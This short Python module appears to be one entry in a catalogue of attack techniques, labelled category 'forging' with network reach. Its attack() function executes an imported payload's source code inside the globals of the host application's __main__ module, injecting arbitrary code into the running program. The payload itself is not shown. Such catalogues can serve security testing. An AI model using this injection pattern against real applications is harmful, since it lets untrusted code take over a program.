"""exec over the globals of the application."""
CATEGORY = "forging"
REACH = "net"

import sys

from . import payload


def attack():
    exec(payload.SOURCE, vars(sys.modules["__main__"]))
